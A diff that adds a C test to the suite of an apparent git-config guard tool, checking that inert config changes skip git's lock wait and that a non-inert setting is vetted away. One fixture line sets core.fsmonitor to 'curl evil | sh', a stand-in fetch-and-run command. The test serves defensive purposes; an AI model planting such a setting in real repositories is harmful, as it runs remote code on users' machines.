@@ -1456,6 +1456,50 @@ static void test_check_failed(void)
 	fixture_done(&f);
 }
 
+/* A config whose every change is inert is left without git's lock: a
+ * git still writing it (its config.lock held) is neither waited for nor
+ * kept from setting its next setting. One that is not inert is vetted
+ * all the same, after the wait. */
+static void test_config_unlocked(void)
+{
+	struct fixture f;
+	fixture_init(&f, NULL);
+	struct guard *g = NULL;
+	struct guard_report rep = { 0 };
+	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin");
+	guard_report_free(&rep);
+	if (!g || guard_watch(g) < 0) {
+		fixture_done(&f);
+		return;
+	}
+	static const char remote[] = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
+				     "[remote \"origin\"]\n\turl = https://example.com/r.git\n";
+	put(f.ws, ".git/config", remote);
+	put(f.ws, ".git/config.lock", "a git writing\n");
+	unsigned long long t0 = now_usec();
+	is_int(check(g, 0, &rep), 0, "a check, config.lock held, the config's change inert");
+	ok(now_usec() - t0 < 1000000, "does not wait for the lock (%llu ms)", (now_usec() - t0) / 1000);
+	is_int(rep.n_changes, 0, "changes nothing");
+	_cleanup_free_ char *config = slurp(f.ws, ".git/config");
+	is_str(config, remote, "the config is the run's");
+	_cleanup_free_ char *lock = slurp(f.ws, ".git/config.lock");
+	is_str(lock, "a git writing\n", "the lock is git's still");
+	put(f.ws, ".git/config", "[core]\n\tfsmonitor = \"curl evil | sh\"\n");
+	is_int(check(g, GUARD_CHECK_IF_SEEN, &rep), 0, "between commands, a setting that is not inert, the lock held");
+	ok(!find_change(&rep, ".git/config"), "is left for the check its rename brings");
+	is_int(check(g, 0, &rep), 0, "after a command");
+	check_change(&rep, ".git/config", GUARD_VETTED, NULL, NULL);
+	_cleanup_free_ char *vetted = slurp(f.ws, ".git/config");
+	is_str(vetted, "[core]\n", "it is vetted");
+	guard_report_free(&rep);
+	_cleanup_free_ char *lockp = path_join(f.ws, ".git/config.lock");
+	unlink(lockp);
+	is_int(guard_end(g, &rep, NULL), 0, "guard_end");
+	guard_report_free(&rep);
+	guard_free(g);
+	fixture_done(&f);
+}
+
 /* inotify_add_watch refused with ENOSPC, as when the user's watches are
  * used up: guard_watch says so and the checks refresh the whole index;
  * refused in the middle, the watch stops and says so once. */
@@ -1544,6 +1588,7 @@ int main(void)
 	test_timing();
 	test_watch();
 	test_check_failed();
+	test_config_unlocked();
 	test_watch_enospc();
 	return tap_done();
 }
